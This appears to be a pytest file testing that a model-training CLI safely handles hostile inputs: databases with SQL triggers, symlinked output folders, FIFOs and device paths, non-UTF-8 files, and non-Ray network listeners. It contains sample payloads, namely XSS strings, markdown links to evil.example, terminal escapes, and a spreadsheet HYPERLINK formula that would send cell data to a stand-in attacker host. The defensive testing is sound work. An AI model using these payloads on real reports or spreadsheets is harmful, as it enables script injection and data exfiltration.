"""Data from others, tried as an auditor would (round 5 of the threat model, docs/reliability.md): a
database carrying SQL of its own, a report folder holding links, labels that are formulas, markup, terminal
escapes or maths, files that are not UTF-8, seeds out of range, names that break file names, a Ray address
that accepts connections but is not Ray. Each ends in one line (exit 2, or the documented code), writes
nothing outside the folder the user chose and loses nothing."""

import csv
import io
import json
import os
import re
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import Cli, rnn_study_text
from statetrack.cli import main
from statetrack.runs import executors
from test_database_checks import copy, made  # noqa: F401 (fixtures: a database of three runs)


def _one_line(capsys, argv, *needles, code=2) -> str:
    assert main(argv) == code, argv
    out = capsys.readouterr().err
    assert "Traceback" not in out, out
    lines = [l for l in out.splitlines() if l.startswith("error")]
    assert len(lines) == 1, out
    for n in needles:
        assert n in lines[0], lines[0]
    return lines[0]


# -- a database is data: no SQL from it runs ---------------------------------------------------------------
TRIGGERS = (
    "CREATE TRIGGER t1 AFTER INSERT ON runs BEGIN DELETE FROM metrics; END;"
    "CREATE TRIGGER t2 AFTER UPDATE ON runs BEGIN UPDATE runs SET label='HIJACKED' WHERE id=1; END;"
    "CREATE VIEW v AS SELECT * FROM runs;"
)


def test_a_database_carrying_triggers_runs_none_of_them(copy, capsys):  # noqa: F811
    db, study = copy
    con = sqlite3.connect(db)
    con.executescript(TRIGGERS)
    con.close()
    before = db.read_bytes()
    for argv in (
        ["train", "--layers", "rnn", "--steps", "2", "--test-lengths", "8", "--db", str(db)],
        ["sweep", str(study), "--db", str(db), "--workers", "1", "--seeds", "3"],
    ):
        _one_line(capsys, argv, "carries SQL", "trigger 't1'", "view 'v'")
        assert db.read_bytes() == before
    # readers read it (a trigger never fires on a read), and --check names every foreign object
    assert main(["runs", "--db", str(db), "--json"]) == 0
    rows = [json.loads(l) for l in capsys.readouterr().out.splitlines()]
    assert [r["label"] for r in rows] == ["RNN"] * 3
    assert main(["runs", "--check", "--db", str(db), "--json"]) == 1
    found = [json.loads(l) for l in capsys.readouterr().out.splitlines()]
    assert {(r["run_id"], r["table"]) for r in found} == {(None, "t1"), (None, "t2"), (None, "v")}
    assert main(["runs", "--check", "--db", str(db)]) == 1
    assert "foreign SQL" in capsys.readouterr().out
    con = sqlite3.connect(db)
    assert con.execute("SELECT count(*) FROM metrics").fetchone()[0] == 3
    con.close()
    assert db.read_bytes() == before


# -- files are written only inside the chosen folder, never through a link --------------------------------
def _tree(folder: Path) -> dict:
    return {
        str(p.relative_to(folder)): p.read_bytes() if p.is_file() else None for p in sorted(folder.rglob("*"))
    }


@pytest.mark.parametrize("link", ["s", "s.md", "index.json", "s.html"])
def test_no_report_file_is_written_through_a_link_in_the_folder(made, tmp_path, capsys, link):  # noqa: F811
    db, study = made
    victim = tmp_path / "victim"
    victim.mkdir()
    for name in ("thumbnail.png", "length-main-parity.png", "curves-main-parity.png", "x"):
        (victim / name).write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / link).symlink_to(victim if link == "s" else victim / "x")
    before = _tree(victim)
    _one_line(
        capsys,
        ["report", str(study), "--db", str(db), "--out", str(out), "--html", "--force"],
        "is a symbolic link",
        repr(str(out / link)),
    )
    assert _tree(victim) == before
    assert (out / link).is_symlink()
    # the chosen folder itself may be a link (the user chose it)
    chosen = tmp_path / "chosen"
    chosen.symlink_to(tmp_path / "real", target_is_directory=True)
    (tmp_path / "real").mkdir()
    assert main(["report", str(study), "--db", str(db), "--out", str(chosen), "--html"]) == 0
    assert (tmp_path / "real" / "s.md").is_file() and (tmp_path / "real" / "s" / "thumbnail.png").is_file()
    assert _tree(victim) == before


# -- labels and names are text everywhere ------------------------------------------------------------------
NASTY = [
    "$x^$",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "<img src=x onerror=alert(1)>",
    "[click](http://evil.example/a) ![t](http://evil.example/t.png)",
]
NOTES = (
    "<script>alert(1)</script> and <svg onload=alert(2)>; a <= b stays; [here](http://evil.example/n)\n\n"
    "[ref]: http://evil.example/r"
)


def _nasty_study(folder: Path) -> Path:
    models = ", ".join(
        f"{{label: {json.dumps(label)}, model: {{layers: rnn, d_model: 2, d_state: 4}}, train_lengths: [4, 4]}}"
        for label in NASTY
    )
    text = rnn_study_text(seeds=1, steps=4).replace(
        "models: [{label: RNN, model: {layers: rnn, d_model: 2, d_state: 4}, train_lengths: [4, 4]}]",
        f"models: [{models}]\nnotes: {json.dumps(NOTES)}",
    )
    path = folder / "nasty.yaml"
    path.write_text(text)
    return path


def _formula_cells(text: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(c: str) -> bool:
    try:
        float(c)
        return True
    except ValueError:
        return c == "-"


@pytest.fixture(scope="module")
def nasty(tmp_path_factory):
    d = tmp_path_factory.mktemp("nasty")
    study, db = _nasty_study(d), d / "r.db"
    assert main(["sweep", str(study), "--db", str(db), "--workers", "1"]) == 0
    return study, db


def test_labels_are_plain_text_in_plots_reports_and_exports(nasty, tmp_path, capsys):
    study, db = nasty
    out = tmp_path / "out"
    assert main(["report", str(study), "--db", str(db), "--out", str(out), "--html"]) == 0
    capsys.readouterr()
    pngs = sorted((out / "s").glob("*.png"))
    assert pngs and all(p.stat().st_size > 1000 for p in pngs)
    md = (out / "s.md").read_text()
    for raw in ("<script", "<img", "<svg"):
        assert raw not in md
    assert "&lt;script>" in md and "a <= b stays" in md and "$x^$" in md
    # no link or image of theirs: every '](' left is one of the report's figures, every definition escaped
    assert "evil.example" in md
    assert re.findall(r"(?<!\\)\]\((?!s/)", md) == []
    assert "\\[ref]: http" in md and "[click\\](http" in md and "![t\\](http" in md
    html = (out / "s.html").read_text()
    assert "<script>alert" not in html and "<img src=x" not in html
    assert _formula_cells((out / "s.csv").read_text()) == []
    assert "'=HYPERLINK" in (out / "s.csv").read_text()
    assert main(["runs", "export", "--db", str(db)]) == 0
    exported = capsys.readouterr().out
    assert _formula_cells(exported) == [] and "'=HYPERLINK" in exported
    plot = tmp_path / "p.png"
    assert main(["plot", "$x^$", "--db", str(db), "--out", str(plot)]) == 0
    assert plot.stat().st_size > 1000


@pytest.mark.parametrize(
    "label", ["\x1b]0;pwned\x07title", "\x1b[2Jclear", "\x1b[31mred", "\u202eevil", "bell\x07\x9b2J"]
)
def test_terminal_escapes_in_labels_never_reach_the_terminal(copy, capsys, label):  # noqa: F811
    db, _ = copy
    con = sqlite3.connect(db)
    con.execute("UPDATE runs SET label=? WHERE id=1", (label,))
    con.commit()
    con.close()
    for argv in (["runs", "--db", str(db)], ["runs", "show", "1", "--db", str(db)]):
        assert main(argv) == 0
        out = capsys.readouterr()
        for bad in ("\x1b", "\x07", "\u202e", "\x9b"):
            assert bad not in out.out + out.err
        assert "\\x1b" in out.out or "\\u202e" in out.out or "\\x07" in out.out
    assert "\x1b" not in _one_line(capsys, ["runs", "show", label + "x", "--db", str(db)])
    assert main(["runs", "show", label, "--db", str(db), "--json"]) == 0  # --json keeps the value, escaped
    assert json.loads(capsys.readouterr().out)["label"] == label


# -- no traceback ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", ["fifo", "/dev/zero"])
def test_a_checkpoint_path_naming_a_fifo_or_a_device_never_hangs(copy, tmp_path, capsys, kind):  # noqa: F811
    """A database whose run names a FIFO or /dev/zero as its checkpoint: reading it (eval) is refused in
    one line, and hashing it (rerun, runs --check) neither waits for a writer nor reads for ever."""
    db, _ = copy
    target = tmp_path / "fifo" if kind == "fifo" else Path(kind)
    if kind == "fifo":
        os.mkfifo(target)
    with sqlite3.connect(db) as c:
        c.execute("UPDATE runs SET checkpoint = ? WHERE id = 1", (str(target),))
    c.close()
    t = time.monotonic()
    _one_line(capsys, ["eval", "run:1", "--db", str(db), "--lengths", "8"], "not a checkpoint file")
    assert main(["rerun", "1", "--db", str(db)]) == 0
    main(["runs", "--check", "--db", str(db)])
    assert "Traceback" not in capsys.readouterr().err and time.monotonic() - t < 60


def test_a_dfa_too_large_for_its_pairs_is_refused_before_the_work(tmp_path, capsys, monkeypatch):
    """A DFA of 600 states (a cycle, so minimal) is sampled, but its witness families and a run that
    asks for horizons are refused in one line, before training (100,000 states took 7 GB and did not end
    within two minutes); the limit is lowered here to keep the test small."""
    from statetrack.tasks import families

    monkeypatch.setattr(families, "MAX_STATES", 500)
    n = 600
    spec = {
        "states": [str(i) for i in range(n)],
        "alphabet": ["a", "b"],
        "start": "0",
        "accept": [str(i) for i in range(0, n, 3)] + ["1"],
        "transitions": {str(i): {"a": str((i + 1) % n), "b": str(i)} for i in range(n)},
    }
    (tmp_path / "big.json").write_text(json.dumps(spec))
    monkeypatch.chdir(tmp_path)
    assert main(["sample", "dfa:big.json"]) == 0
    capsys.readouterr()
    _one_line(capsys, ["witnesses", "dfa:big.json"], "600 states", "at most 500 states")
    argv = [
        "train",
        "--task",
        "dfa:big.json",
        "--layers",
        "rnn",
        "--steps",
        "2",
        "--horizons",
        "--db",
        "r.db",
    ]
    _one_line(capsys, argv, "600 states", "at most 500 states")
    assert not (tmp_path / "r.db").exists()


def test_a_database_of_many_runs_lists_its_latest_and_exports_in_bulk(copy, capsys):  # noqa: F811
    """A database of 3,003 runs: 'runs' lists the latest (a database of 200,000 runs took minutes and
    2.5 GB to list), says how many it left out, and lists every run with --last 0; the export reads the
    metrics of many runs at once and gives what reading them run by run gives."""
    from statetrack.runs.store import Store

    db, _ = copy
    cols = (
        "study,label,model,task,seed,train_min_len,train_max_len,config,versions,status,error,checkpoint,"
        "created,finished,wall_time,summary,owner,checkpoint_sha256"
    )
    with sqlite3.connect(db) as c:
        c.execute(
            f"WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 3000) "
            f"INSERT INTO runs (key,uuid,{cols}) SELECT key || x, uuid || x, {cols} FROM runs, n WHERE runs.id = 1"
        )
    c.close()
    assert main(["runs", "--db", str(db), "--last", "2", "--json"]) == 0
    out = capsys.readouterr()
    assert [json.loads(line)["run_id"] for line in out.out.splitlines()] == [3002, 3003]
    assert "the latest 2 of 3,003 runs; --last 0 lists every run" in out.err
    assert main(["runs", "--db", str(db), "--last", "0", "--json"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 3003
    store = Store(db, readonly=True)
    ids = [1, 2, 3, 17]
    plain, split = store.metrics_of(ids)
    for i in ids:
        assert plain.get(i, []) == store.metrics(i) and split.get(i, {}) == store.split_metrics(i)


@pytest.mark.parametrize("ref", ["99999999999999999999", "9223372036854775808"])
def test_a_run_id_beyond_sqlite_integers_is_no_such_run(copy, capsys, ref):  # noqa: F811
    db, _ = copy
    _one_line(capsys, ["runs", "show", ref, "--db", str(db)], f"no run with id {ref}")
    _one_line(capsys, ["eval", f"run:{ref}", "--db", str(db), "--lengths", "8"], f"no run with id {ref}")


def test_a_huge_value_in_an_error_is_cut_to_one_readable_line(capsys):
    line = _one_line(capsys, ["sample", "tomita:" + "9" * 5000], "bad grammar", "characters)...")
    assert len(line) < 600 and "allowed: an integer in 1..7" in line


def test_a_file_that_is_not_utf8_is_one_line(tmp_path, capsys):
    bad = tmp_path / "b.yaml"
    bad.write_bytes(rnn_study_text().encode().replace(b"name: s", b"name: s\xff", 1))
    db = tmp_path / "r.db"
    for argv in (
        ["sweep", str(bad), "--db", str(db)],
        ["reproduce", str(bad), "--db", str(db), "--out", str(tmp_path / "out")],
        ["report", str(bad), "--db", str(db), "--out", ""],
        ["train", "--config", str(bad), "--db", str(db)],
    ):
        _one_line(capsys, argv, "is not UTF-8 text: byte 0xff", "line 1", repr(str(bad)))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.yaml"]


@pytest.mark.parametrize("flag", ["--seed", "--eval-seed"])
@pytest.mark.parametrize("value", ["999999999999999999999999", "-1", "9223372036854775808"])
def test_a_seed_out_of_range_is_refused_before_the_database(tmp_path, capsys, flag, value):
    db = tmp_path / "r.db"
    argv = ["train", "--layers", "rnn", "--steps", "2", "--test-lengths", "8", flag, value, "--db", str(db)]
    _one_line(capsys, argv, "seed", value)
    assert not db.exists()
    _one_line(capsys, ["sample", "parity", "--seed", value], "bad seed", "9,223,372,036,854,775,807")


def test_a_corpus_cache_that_cannot_be_written_is_one_line(tmp_path, capsys, monkeypatch):
    (tmp_path / "afile").write_text("in the way")
    monkeypatch.setenv("STATETRACK_CACHE", str(tmp_path / "afile"))
    _one_line(capsys, ["sample", "lm:stdlib"], "cannot write the corpus cache", "STATETRACK_CACHE")


def test_running_out_of_memory_while_modules_load_is_one_line(tmp_path):
    """Under ``ulimit -v`` of 450 MB, torch's libraries cannot be mapped: one line, exit 2."""
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (450 << 20, 450 << 20))

    p = subprocess.run(
        [sys.executable, "-m", "statetrack.cli", "runs", "--db", str(tmp_path / "r.db")],
        env=Cli.env,
        preexec_fn=limit,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert p.returncode == 2, p.stderr
    assert "Traceback" not in p.stderr and len(p.stderr.splitlines()) == 1, p.stderr
    assert "ran out of memory" in p.stderr


# -- a Ray address that accepts connections but is not Ray -------------------------------------------------
@pytest.fixture
def listener():
    """start(answer) -> a port on 127.0.0.1 that accepts every connection and sends ``answer`` (b"": never
    answers, never closes)."""
    socks, conns = [], []

    def start(answer: bytes = b"") -> int:
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen(16)
        socks.append(s)

        def serve():
            while True:
                try:
                    c, _ = s.accept()
                except OSError:
                    return
                conns.append(c)
                if answer:
                    c.sendall(answer)

        threading.Thread(target=serve, daemon=True).start()
        return s.getsockname()[1]

    start.conns = conns  # type: ignore[attr-defined]
    yield start
    for x in conns + socks:
        x.close()


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (b"", "it accepts connections but does not answer: not a Ray cluster, within 2 s"),
        (b"HTTP/1.1 400 Bad Request\r\n\r\n", "it answers, but not in gRPC's HTTP/2"),
        (b"SSH-2.0-OpenSSH_9.6\r\n", "it answers, but not in gRPC's HTTP/2"),
    ],
)
def test_a_ray_address_that_is_not_ray_is_one_line_within_its_deadline(
    tmp_path, capsys, monkeypatch, listener, answer, said
):
    pytest.importorskip("ray")
    monkeypatch.setattr(executors, "RAY_CONNECT_TIMEOUT", 2.0)
    port = listener(answer)
    db = tmp_path / "x.db"
    study = tmp_path / "s.yaml"
    study.write_text(rnn_study_text())
    t = time.monotonic()
    argv = ["sweep", str(study), "--db", str(db), "--executor", "ray", "--address", f"127.0.0.1:{port}"]
    _one_line(capsys, argv, f"no Ray cluster answers at --address 127.0.0.1:{port}", said)
    assert time.monotonic() - t < 10 and sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]


def test_the_handshake_passes_a_grpc_server():
    """The handshake is gRPC's (HTTP/2), which Ray's GCS and client server speak."""
    grpc = pytest.importorskip("grpc")
    from concurrent import futures

    server = grpc.server(futures.ThreadPoolExecutor(1))
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    try:
        executors.check_ray_address(f"127.0.0.1:{port}", timeout=5)
        executors.check_ray_address(f"ray://127.0.0.1:{port}", timeout=5)
    finally:
        server.stop(0)


def test_sigterm_ends_a_sweep_waiting_on_a_silent_address_at_once(tmp_path, listener):
    pytest.importorskip("ray")
    port = listener(b"")
    study = tmp_path / "s.yaml"
    study.write_text(rnn_study_text())
    cli = Cli()
    try:
        p = cli.start(
            "sweep", study, "--db", tmp_path / "x.db", "--executor", "ray", "--address", f"127.0.0.1:{port}"
        )
        deadline = time.monotonic() + 60
        while not listener.conns and time.monotonic() < deadline:  # the handshake has begun (10 s deadline)
            time.sleep(0.05)
        t = time.monotonic()
        p.send_signal(signal.SIGTERM)
        _, err = p.communicate(timeout=30)
        assert p.returncode == 143, err
        assert time.monotonic() - t < 3 and "Traceback" not in err
        assert sorted(x.name for x in tmp_path.iterdir()) == ["s.yaml"]
    finally:
        cli.stop_all()


# -- names that break files ------------------------------------------------------------------------------
def _two_tables(names: tuple[str, str], task: str = "parity") -> str:
    model = "{label: RNN, model: {layers: rnn, d_model: 2, d_state: 4}, train_lengths: [4, 4]}"
    tables = ", ".join(
        f"{{name: {json.dumps(n)}, title: t{i}, tasks: [{{label: {json.dumps(task)}, task: parity}}], "
        f"models: [{model}]}}"
        for i, n in enumerate(names)
    )
    return (
        "name: s\ntitle: s\nsource: test\n"
        "train: {batch_size: 8, eval_every: 5, val_sequences: 16, lr: 0.01}\n"
        f"tables: [{tables}]\n"
        "scales: {quick: {seeds: 1, steps: 4, eval_batch: 8, test_lengths: [8]}}\n"
    )


@pytest.mark.parametrize(
    ("names", "task", "renamed"),
    [
        (("a b", "a-b"), "parity", True),
        (("Main", "main"), "parity", True),
        (("T" * 200, "t" * 200), "p" * 200, False),  # cut slugs end in a hash of the name: apart already
    ],
)
def test_table_and_task_names_make_safe_and_unique_figure_files(tmp_path, capsys, names, task, renamed):
    study = tmp_path / "s.yaml"
    study.write_text(_two_tables(names, task))
    db, out = tmp_path / "r.db", tmp_path / "out"
    assert main(["reproduce", str(study), "--db", str(db), "--out", str(out), "--workers", "1"]) == 0, (
        capsys.readouterr().err
    )
    err = capsys.readouterr().err
    files = sorted(p.name for p in (out / "s").iterdir())
    assert all(len(f) < 140 for f in files), files
    # each table's two figures (accuracy by length, curves): four files, none replaced by another
    assert len(files) == 4 and len({f.lower() for f in files}) == 4, files
    assert ("written as" in err) == renamed, err
    md = (out / "s.md").read_text()
    assert all(f"s/{f}" in md for f in files)


def test_labels_that_look_the_same_are_warned_about(tmp_path, capsys):
    study = tmp_path / "s.yaml"
    study.write_text(
        rnn_study_text().replace(
            "models: [{label: RNN, model: {layers: rnn, d_model: 2, d_state: 4}, train_lengths: [4, 4]}]",
            "models: [{label: RNN, model: {layers: rnn, d_model: 2, d_state: 4}, train_lengths: [4, 4]}, "
            '{label: "R\\u039d\\u039d", model: {layers: rnn, d_model: 2, d_state: 4}, train_lengths: [4, 4]}]',
        )
    )
    assert main(["sweep", str(study), "--db", str(tmp_path / "r.db"), "--workers", "1"]) == 0
    err = capsys.readouterr().err
    assert "look the same" in err and "'R\\u039d\\u039d'" in err and "'RNN'" in err
    assert main(["runs", "--db", str(tmp_path / "r.db")]) == 0  # two rows alike in a listing: said too
    err = capsys.readouterr().err
    assert "labels 'RNN' and 'R\\u039d\\u039d' look the same" in err


# -- long work says how far it is; what cannot fit is refused first ---------------------------------------
@pytest.fixture(scope="module")
def checkpoint(made):  # noqa: F811
    db, _ = made
    return next(db.parent.glob("r.checkpoints/*.safetensors"))


def test_an_evaluation_that_cannot_fit_is_refused_before_it_starts(checkpoint, tmp_path, capsys):
    t = time.monotonic()
    _one_line(
        capsys,
        ["eval", str(checkpoint), "--lengths", "1000000000000", "--batch-size", "1000000000"],
        "an evaluation batch of 1,000,000,000 sequences needs",
        "budget of 2,048 MiB",
    )
    db = tmp_path / "r.db"
    argv = ["train", "--layers", "rnn", "--steps", "2", "--eval-batch", "1000000000", "--db", str(db)]
    _one_line(capsys, argv, "an evaluation batch of 1,000,000,000 sequences")
    assert not db.exists() and time.monotonic() - t < 20


def _first_line_with(p, needle: str, timeout: float) -> tuple[str, float]:
    """The first stderr line of ``p`` holding ``needle``, and when it came (a thread reads the pipe)."""
    import queue

    lines: queue.Queue = queue.Queue()
    threading.Thread(target=lambda: [lines.put(l) for l in p.stderr], daemon=True).start()
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            line = lines.get(timeout=0.5)
        except queue.Empty:
            continue
        if needle in line:
            return line, time.monotonic()
    raise AssertionError(f"no line with {needle!r} within {timeout} s")


@pytest.mark.parametrize(
    ("argv", "needle"),
    [
        (["eval", "{ck}", "--lengths", "10000000", "--batch-size", "64"], "tokens/s  ETA"),
        (
            [
                "report",
                "{study}",
                "--db",
                "{db}",
                "--seeds",
                "1000000000",
                "--max-runs",
                "2000000000",
                "--out",
                "",
            ],
            "runs of the grid read",
        ),
    ],
)
def test_long_work_prints_progress_and_stops_on_sigterm(made, checkpoint, argv, needle):  # noqa: F811
    db, study = made
    argv = [a.format(ck=checkpoint, study=study, db=db) for a in argv]
    cli = Cli()
    try:
        p = cli.start(*argv)
        t = time.monotonic()
        line, when = _first_line_with(p, needle, 60)
        assert when - t < 45, line  # imports, then the first line after 5 s of work
        p.send_signal(signal.SIGTERM)
        _, err = p.communicate(timeout=30)
        assert p.returncode == 143 and "Traceback" not in err, err
    finally:
        cli.stop_all()


def test_a_clock_set_back_never_makes_a_negative_wall_time(tmp_path, capsys, monkeypatch):
    calls = [0]
    real = time.time

    def backwards():  # every reading 6 hours before the one before
        calls[0] += 1
        return real() - 21600 * calls[0]

    monkeypatch.setattr(time, "time", backwards)
    db = tmp_path / "r.db"
    assert (
        main(["train", "--layers", "rnn", "--steps", "4", "--test-lengths", "8", "--db", str(db), "--json"])
        == 0
    )
    monkeypatch.setattr(time, "time", real)
    capsys.readouterr()
    assert main(["runs", "show", "1", "--db", str(db), "--json"]) == 0
    row = json.loads(capsys.readouterr().out)
    assert calls[0] >= 2 and 0 <= row["wall_time"] < 600, row  # the clock was read, the duration holds


def test_a_checkpoint_folder_that_is_a_link_is_not_followed(tmp_path, capsys):
    """A database folder from others whose ``r.checkpoints`` is a link elsewhere: the run keeps its
    numbers, its checkpoint is not written there."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "r.checkpoints").symlink_to(victim, target_is_directory=True)
    db = tmp_path / "runs" / "r.db"
    _one_line(
        capsys,
        ["train", "--layers", "rnn", "--steps", "2", "--test-lengths", "8", "--db", str(db)],
        "recorded complete with its metrics but without a checkpoint",
        "is a symbolic link",
    )
    assert list(victim.iterdir()) == []
    assert main(["runs", "--db", str(db), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["status"] == "complete"


@pytest.mark.parametrize(
    "what",
    ["runs export", "plot", "plot (default folder)", "construct", "spectrum", "export-tasks", "scorecard"],
)
def test_no_single_file_output_is_written_through_a_link(copy, tmp_path, capsys, what):  # noqa: F811
    """Every command that writes a file the user names (or files into a folder the user names) refuses a
    link where it would write, and leaves the link's target as it was."""
    db, _ = copy
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    ckpt = next(db.parent.glob("r.checkpoints/*.safetensors"))
    out = tmp_path / "out"
    out.mkdir()
    argv, link = {
        "runs export": (["runs", "export", "--db", str(db), "--out", str(out / "x.csv")], out / "x.csv"),
        "plot": (["plot", "1", "--db", str(db), "--out", str(out / "x.png")], out / "x.png"),
        "plot (default folder)": (["plot", "1", "--db", str(db)], db.parent / "plots"),
        "construct": (
            ["construct", "parity-negmamba", "--out", str(out / "c.safetensors")],
            out / "c.safetensors",
        ),
        "spectrum": (["spectrum", str(ckpt), "--out", str(out / "s.png")], out / "s.png"),
        "export-tasks": (
            ["export-tasks", "--tasks", "parity", "--lengths", "8", "--n", "4", "--out", str(out)],
            out / "statetrack.yaml",
        ),
        "scorecard": (
            [
                "scorecard",
                "rnn",
                "--steps",
                "1",
                "--seeds",
                "1",
                "--test-lengths",
                "8",
                "--workers",
                "1",
                "--db",
                str(tmp_path / "s.db"),
                "--out",
                str(out),
            ],
            out / "scorecard-rnn.md",
        ),
    }[what]
    if link.name == "plots":
        victim = tmp_path / "victim-folder"
        victim.mkdir()
    link.symlink_to(victim, target_is_directory=victim.is_dir())
    code = main(argv)
    err = capsys.readouterr().err
    assert "Traceback" not in err, err
    if what == "scorecard" and code != 2:
        pytest.skip(f"scorecard did not reach its files: {err.splitlines()[-1:]}")
    assert code == 2, err
    assert "symbolic link" in err, err
    assert link.is_symlink()
    assert (list(victim.iterdir()) == []) if victim.is_dir() else victim.read_text() == "precious\n"


def test_tensorboard_logs_are_not_written_through_a_link(tmp_path, capsys):
    pytest.importorskip("tensorboard")
    victim, tb = tmp_path / "victim", tmp_path / "tb"
    victim.mkdir()
    tb.mkdir()
    (tb / "run1-rnn-parity-seed0").symlink_to(victim, target_is_directory=True)
    argv = ["train", "--layers", "rnn", "--steps", "2", "--test-lengths", "8", "--db", str(tmp_path / "r.db")]
    _one_line(
        capsys, [*argv, "--tensorboard", str(tb)], "cannot write the TensorBoard logs", "is a symbolic link"
    )
    assert list(victim.iterdir()) == []


def test_a_cluster_ray_cannot_join_leaves_no_database(tmp_path, capsys, monkeypatch):
    """An HTTP/2 server passes the handshake; Ray's own join is then tried before the database is opened
    (here Ray's refusal is simulated: ray.init raises as it does for an address that is not a cluster)."""
    ray = pytest.importorskip("ray")
    grpc = pytest.importorskip("grpc")
    from concurrent import futures

    def refuse(**kw):
        raise ConnectionError(f"Could not find any running Ray instance at {kw['address']}.\nmore")

    monkeypatch.setattr(ray, "init", refuse)
    monkeypatch.setattr(ray, "is_initialized", lambda: False)
    server = grpc.server(futures.ThreadPoolExecutor(1))
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    study = tmp_path / "s.yaml"
    study.write_text(rnn_study_text())
    try:
        argv = ["sweep", str(study), "--db", str(tmp_path / "x.db"), "--executor", "ray"]
        _one_line(
            capsys,
            [*argv, "--address", f"127.0.0.1:{port}"],
            f"Ray could not start at --address 127.0.0.1:{port}: Could not find any running Ray instance",
        )
    finally:
        server.stop(0)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]


def test_a_local_ray_that_cannot_start_leaves_no_database(tmp_path, capsys, monkeypatch):
    """Without --address, a new database is created only once the local Ray instance has started (its
    failure simulated: ray.init raises as it does when no instance can be started here)."""
    ray = pytest.importorskip("ray")

    def refuse(**kw):
        raise RuntimeError("Failed to start the local Ray instance.\nmore")

    monkeypatch.setattr(ray, "init", refuse)
    monkeypatch.setattr(ray, "is_initialized", lambda: False)
    study = tmp_path / "s.yaml"
    study.write_text(rnn_study_text())
    argv = ["sweep", str(study), "--db", str(tmp_path / "x.db"), "--executor", "ray"]
    _one_line(capsys, argv, "Ray could not start", "Failed to start the local Ray instance")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "link to a big file"])
@pytest.mark.parametrize("name", ["s.md", "s.csv", "index.json"])
def test_files_of_a_report_folder_are_read_where_they_are_and_bounded(made, tmp_path, capsys, kind, name):  # noqa: F811
    """A report folder from others whose earlier report files are FIFOs, devices or links: reading them
    never waits, never reads without end and never follows the link; a link is never written through (a
    FIFO's name may be replaced by the report's file: nothing is written into it)."""
    db, study = made
    out = tmp_path / "out"
    out.mkdir()
    if name != "s.md":
        (out / "s.md").write_text("# s\n")
    target = out / name
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "/dev/zero":
        target.symlink_to("/dev/zero")
    else:
        big = tmp_path / "big"
        big.write_bytes(b"x" * (50 << 20))
        target.symlink_to(big)
    t = time.monotonic()
    code = main(["report", str(study), "--db", str(db), "--out", str(out)])
    err = capsys.readouterr().err
    assert code in (0, 2) and "Traceback" not in err and err.count("error:") == (code == 2), err
    assert time.monotonic() - t < 30
    if kind != "fifo":
        assert target.is_symlink() and code == 2  # never written through
    if kind == "link to a big file":
        assert (tmp_path / "big").stat().st_size == 50 << 20
